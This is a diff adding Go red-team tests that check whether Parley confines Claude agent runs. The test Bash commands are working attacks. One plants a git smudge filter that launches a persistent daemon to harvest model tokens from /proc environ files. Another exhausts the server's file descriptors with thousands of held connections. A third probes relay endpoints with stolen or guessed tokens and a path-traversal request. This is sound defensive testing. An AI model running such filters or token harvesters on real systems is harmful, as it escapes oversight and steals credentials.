@@ -1,0 +1,239 @@
+package server
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"parley/runner/fakeapi"
+)
+
+// Red-team attacks on issue 27's confinement that the other attack files
+// do not cover: each plays a member's Claude with a shell as the
+// project's uid, through the real CLI, as serve runs it.
+
+// TestRedteamGitFilterOutlivesTheRun: git, which Parley runs on a worktree
+// project's repository as the project's uid, executes what the
+// repository's config says (a smudge filter, here, named in
+// $GIT_DIR/info/attributes so no commit is needed). Session 1's Bash plants
+// one that starts a daemon. Session 2's first run makes its worktree, so
+// Parley's git runs the filter: outside any run, its cgroup and its pid
+// namespace. The daemon must not outlive that git, and must never read a
+// run's model token from /proc/<pid>/environ (same uid, but another pid
+// namespace).
+func TestRedteamGitFilterOutlivesTheRun(t *testing.T) {
+	t.Run("uid", func(t *testing.T) { gitFilterDaemon(t, "uid") })
+	t.Run("bwrap", func(t *testing.T) { gitFilterDaemon(t, "bwrap") })
+}
+
+func gitFilterDaemon(t *testing.T, isolation string) {
+	mark := marker(t)
+	hold := make(chan struct{})
+	var once bool
+	release := func() {
+		if !once {
+			once = true
+			close(hold)
+		}
+	}
+	defer release()
+	sc := fakeapi.Scenario{
+		{ToolName: "Bash"}, // set below, once the repository is known
+		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
+		{Text: "Session two is working.", Hold: hold},
+	}
+	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true})
+	repo := gitRepo(t)
+	e.useRepo(repo)
+	harvest := filepath.Join(repo, ".git", "harvest")
+	t.Cleanup(func() {
+		for _, pid := range procsWith(mark) {
+			_ = syscall.Kill(pid, syscall.SIGKILL)
+		}
+	})
+	e.fake.SetStep(0, fakeapi.Step{ToolName: "Bash", ToolInput: map[string]any{"command": plantFilter(mark)}})
+
+	s1 := e.newSession()
+	w1 := e.dial(s1.ID, 0)
+	w1.prompt("plant a filter")
+	w1.waitFor(120*time.Second, "OUT ", "Done ·")
+	out, _ := e.lastToolResult(2)
+	t.Logf("planting printed:\n%s", out)
+	t.Logf("the CLI's requests reach the model with Accept-Encoding %q", e.fake.Requests()[0].Header.Get("Accept-Encoding"))
+	if !strings.Contains(out, "PLANTED") {
+		t.Fatalf("the filter was not planted: %q", out)
+	}
+	e.sup.Stop(s1.ID)
+
+	// Session 2: its worktree's checkout runs the filter.
+	s2 := e.newSession()
+	w2 := e.dial(s2.ID, 0)
+	w2.prompt("work")
+	wctx, cancel := context.WithTimeout(t.Context(), 90*time.Second)
+	defer cancel()
+	if err := e.fake.WaitRequests(wctx, 3); err != nil {
+		t.Fatalf("session 2 never asked the model: %v", err)
+	}
+	r2, ok := e.sup.Live(s2.ID)
+	if !ok {
+		t.Fatal("session 2 has no live run")
+	}
+	token := r2.Spec().ModelToken
+	ran, _ := os.ReadFile(filepath.Join(repo, ".git", "filter-ran"))
+	if len(ran) == 0 {
+		t.Fatal("Parley's git never ran the planted filter: nothing was tested")
+	}
+	// Give the daemon time to look at /proc while session 2's run is live.
+	time.Sleep(3 * time.Second)
+	release()
+	w2.waitFor(60*time.Second, "Session two is working.")
+	e.sup.Stop(s2.ID)
+	time.Sleep(2 * time.Second)
+
+	got, _ := os.ReadFile(harvest)
+	if token != "" && strings.Contains(string(got), token) {
+		t.Errorf("a daemon started by Parley's git read session 2's model token from /proc (harvested %d bytes)", len(got))
+	}
+	if pids := procsWith(mark); len(pids) > 0 {
+		t.Errorf("%d processes started by the repository's filter outlived git, session 1's and session 2's runs (pids %v)", len(pids), pids)
+	}
+	e.healthy()
+}
+
+// plantFilter is session 1's Bash: a smudge filter for every file, in the
+// repository's common git dir, whose first run starts a daemon (mark in
+// its command line) that copies every parley-run- token it can read in
+// /proc to $GIT_DIR/harvest.
+func plantFilter(mark string) string {
+	daemon := `while :; do for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ 2>/dev/null | grep parley-run-; done | sort -u >> "$G/harvest"; sleep 0.3; done`
+	return fmt.Sprintf(`G=$(git rev-parse --path-format=absolute --git-common-dir) && mkdir -p "$G/info" && echo '* filter=evil' >> "$G/info/attributes" && cat > "$G/evil.sh" <<EOF
+#!/bin/sh
+export G="$G"
+echo ran >> "\$G/filter-ran"
+if mkdir "\$G/started" 2>/dev/null; then
+  setsid sh -c '%s' %s </dev/null >/dev/null 2>&1 &
+fi
+exec cat
+EOF
+chmod +x "$G/evil.sh" && git config -f "$G/config" filter.evil.smudge "$G/evil.sh" && echo PLANTED`,
+		strings.ReplaceAll(daemon, "$", `\$`), mark)
+}
+
+// TestRedteamGatewayConnectionsHoldParleysFiles: a run's Bash opens 4,000
+// connections to its gateway address (the relay's loopback port; in
+// bubblewrap, through sandbox-relay to gateway.sock), sends one complete
+// request on each and keeps them open, idle. Each costs Parley a file
+// descriptor and a goroutine; serve's relay server has no idle timeout, and
+// a run may raise its own RLIMIT_NOFILE to the hard limit Parley has too
+// (20,000 here), so one run could take every descriptor Parley has: no
+// browser, database connection or other run gets one. Parley must not
+// hold more than a bounded number for one run after 12 s of idleness.
+func TestRedteamGatewayConnectionsHoldParleysFiles(t *testing.T) {
+	t.Skip("redteam: open, see report")
+	t.Run("uid", func(t *testing.T) { gatewayConnections(t, "uid") })
+	t.Run("bwrap", func(t *testing.T) { gatewayConnections(t, "bwrap") })
+}
+
+func gatewayConnections(t *testing.T, isolation string) {
+	const conns, bound = 4000, 1000
+	cmd := fmt.Sprintf(`ulimit -n %d; hp=${ANTHROPIC_BASE_URL#http://}; hp=${hp%%%%/*}; h=${hp%%:*}; p=${hp##*:}; n=0; `+
+		`for i in $(seq %d); do exec {fd}<>/dev/tcp/$h/$p || break; printf 'GET /held HTTP/1.1\r\nHost: x\r\n\r\n' >&$fd; n=$((n+1)); done; `+
+		`echo $n > held.txt; sleep 25; echo "held $n"`, conns+200, conns)
+	sc := fakeapi.Scenario{
+		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd, "timeout": 120000}},
+		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
+	}
+	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true})
+	settings := e.project.ProjectSettings
+	settings.AllowedTools = []string{"Bash"}
+	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
+		t.Fatal(err)
+	}
+	before := openFiles()
+	s := e.newSession()
+	w := e.dial(s.ID, 0)
+	w.prompt("hold connections")
+	held := filepath.Join(WorkspaceDir(e.dataDir, e.project), "held.txt")
+	var n string
+	for deadline := time.Now().Add(90 * time.Second); n == ""; time.Sleep(200 * time.Millisecond) {
+		b, _ := os.ReadFile(held)
+		n = strings.TrimSpace(string(b))
+		if time.Now().After(deadline) {
+			t.Fatal("the run never reported its connections")
+		}
+	}
+	time.Sleep(12 * time.Second)
+	during := openFiles()
+	e.healthy()
+	w.waitFor(120*time.Second, "OUT ", "Done ·")
+	t.Logf("the run opened %s connections; Parley's open files: %d before, %d after 12 s idle", n, before, during)
+	if during-before > bound {
+		t.Errorf("one run holds %d of Parley's file descriptors (%s idle connections to the gateway), want at most %d", during-before, n, bound)
+	}
+}
+
+// openFiles counts this process's (Parley's) open file descriptors.
+func openFiles() int {
+	ents, _ := os.ReadDir("/proc/self/fd")
+	return len(ents)
+}
+
+// TestRedteamRelayServesOnlyTheModelAndAsks: a run's Bash talks raw HTTP to
+// its gateway address (the relay's loopback port; in bubblewrap,
+// gateway.sock through sandbox-relay) for everything but the Messages
+// API: Parley's web pages and /metrics, the upstream's other APIs, a path
+// that climbs out, and the ask relay's endpoints with the run's model
+// token or a made-up run token. Nothing answers 200.
+func TestRedteamRelayServesOnlyTheModelAndAsks(t *testing.T) {
+	t.Run("uid", func(t *testing.T) { relayRoutes(t, "uid") })
+	t.Run("bwrap", func(t *testing.T) { relayRoutes(t, "bwrap") })
+}
+
+func relayRoutes(t *testing.T, isolation string) {
+	cmd := `B=$ANTHROPIC_BASE_URL; K="x-api-key: $ANTHROPIC_API_KEY"; ` +
+		`for p in /metrics / /login /healthz /projects /admin /v1/models /v1/files /v1/messages/batches /v1/organizations/me; do ` +
+		`echo "GET $p $(curl -s -o /dev/null -w '%{http_code}' -H "$K" "$B$p")"; done; ` +
+		`echo "POST /v1/files $(curl -s -o /dev/null -w '%{http_code}' -H "$K" -X POST -d x "$B/v1/files")"; ` +
+		`echo "CLIMB $(curl --path-as-is -s -o /dev/null -w '%{http_code}' -H "$K" "$B/v1/messages/../../metrics")"; ` +
+		`echo "ASK-MODEL-TOKEN $(curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $ANTHROPIC_API_KEY" -d '{"question":"q","options":["a","b"]}' "$B/ask")"; ` +
+		`echo "ASK-GUESS $(curl -s -o /dev/null -w '%{http_code}' -X POST -H 'Authorization: Bearer parley-run-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' -d '{"question":"q"}' "$B/ask")"; ` +
+		`echo "MCP-ASK-MODEL-TOKEN $(curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $ANTHROPIC_API_KEY" -H 'content-type: application/json' -H 'accept: application/json, text/event-stream' ` +
+		`-d '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}' "$B/mcp-ask")"; echo END`
+	sc := fakeapi.Scenario{
+		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd}},
+		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
+	}
+	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true})
+	settings := e.project.ProjectSettings
+	settings.AllowedTools = []string{"Bash"}
+	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
+		t.Fatal(err)
+	}
+	s := e.newSession()
+	w := e.dial(s.ID, 0)
+	w.prompt("probe the relay")
+	w.waitFor(120*time.Second, "OUT ", "Done ·")
+	out, _ := e.lastToolResult(2)
+	t.Logf("the relay answered:\n%s", out)
+	if !strings.Contains(out, "END") || strings.Count(out, "\n") < 15 {
+		t.Fatalf("the probe did not run whole: %q", out)
+	}
+	for line := range strings.Lines(out) {
+		f := strings.Fields(line)
+		if len(f) < 2 {
+			continue
+		}
+		if code := f[len(f)-1]; code == "000" || strings.HasPrefix(code, "2") {
+			t.Errorf("the relay answered %s: %s", code, strings.TrimSpace(line))
+		}
+	}
+	if n := len(e.fake.SideRequests()); n > 0 {
+		t.Errorf("%d of the probe's requests reached the model's upstream", n)
+	}
+	e.healthy()
+}
